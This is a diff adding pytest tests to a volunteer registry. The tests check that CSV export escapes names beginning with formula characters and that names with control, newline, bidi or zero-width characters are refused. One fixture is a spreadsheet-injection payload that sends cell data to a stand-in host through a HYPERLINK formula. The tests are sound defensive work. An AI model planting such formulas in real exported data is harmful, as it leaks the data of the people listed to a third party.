@@ -548,3 +548,26 @@ def test_a_key_request_that_reaches_the_tables_by_a_rebuild_is_granted(make_node
     _send(district, street)
     keys.forget_cached(street)
     assert keys.active_key(street) is not None and keys.active_key(street).key_id == key.key_id
+
+
+def test_a_name_that_reads_as_a_formula_is_exported_as_text(street, run_cli, tmp_path):
+    """Found by a hostile review: a name such as =HYPERLINK(…) went into the CSV as is, and Excel or WPS
+    ran it when the sheet was opened (and could send the sheet's data away on a click)."""
+    formula = '=HYPERLINK("http://x.example/?"&A1,"点此")'
+    for serial, name in enumerate((formula, "+86 王丽", "@王丽", "王-丽"), 20):
+        v = registry.add_volunteer(street, ACTOR, name=name, id_number=id_number(serial))
+        _served(street, v["id"], 1, title=f"活动{serial}")
+    out = tmp_path / "export.csv"
+    home = str(street.home)
+    street.close()
+    assert run_cli("--home", home, "--actor", ACTOR, "volunteers", "export", "--out", str(out)).exit_code == 0
+    names = {r["name"] for r in csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig")))}
+    assert names == {"'" + formula, "'+86 王丽", "'@王丽", "王-丽"}
+
+
+@pytest.mark.parametrize("name", ["恶意\x00end", "王丽\r\n伪造行", "王\n丽", "\u202e丽王", "\u200b", "\u200b \ufeff"])
+def test_a_name_with_control_characters_is_refused_and_nothing_written(street, name):
+    before = _log_size(street)
+    with pytest.raises(InvalidInput):
+        registry.add_volunteer(street, ACTOR, name=name, id_number=id_number(40))
+    assert _log_size(street) == before
